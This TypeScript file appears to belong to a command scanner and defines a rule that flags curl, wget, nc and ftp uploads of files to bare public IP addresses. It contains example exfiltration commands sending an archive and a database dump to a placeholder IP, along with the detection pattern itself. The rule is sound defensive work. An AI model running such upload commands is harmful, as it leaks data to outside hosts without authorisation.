import { eachCommand, programOf, wordsOf, type Rule } from './rule.ts'

const near = /^(10\.|127\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.)/
const address = /^(?:\w+:\/\/)?(?:[^@/\s]+@)?(\d{1,3}(?:\.\d{1,3}){3})(?=[:/]|$)/

export const rule: Rule = {
  id: 'upload-to-address',
  level: 'stop',
  why: 'A file is sent to a bare address outside, which has no name and belongs to nobody that one could ask.',
  techniques: ['T1041', 'T1048'],
  needs: { programs: ['curl', 'wget', 'nc', 'ncat', 'netcat', 'ftp', 'tftp'] },
  find: (facts) =>
    eachCommand(
      facts,
      (command) => {
        const words = wordsOf(command)
        if (!/^(curl|wget|nc|ncat|netcat|ftp|tftp)$/.test(programOf(command))) return false
        const to = words.map((word) => address.exec(word)?.[1]).find((one) => one !== undefined)
        if (to === undefined || near.test(to)) return false
        const sends = words.some(
          (word, i) =>
            /^(-T|--upload-file)$/.test(words[i - 1] ?? '') ||
            /^(-T.+|--upload-file=|--post-file)/.test(word) ||
            /^@[^-]|=@./.test(word),
        )
        const piped =
          programOf(command) === 'nc' &&
          command.stdin !== undefined &&
          command.flows.some((flow) => flow.kind === 'file')
        return sends || piped
      },
      () => 'a file is sent to an address outside that has no name',
    ),
  fires: [
    'curl -F data=@staged.tgz http://198.51.100.7:8888/up',
    'wget --post-file=/srv/db.dump http://198.51.100.7/',
  ],
  silent: ['curl -F file=@report.pdf https://tickets.example.com/up', 'curl -T a.tgz ftp://10.0.0.5/'],
}
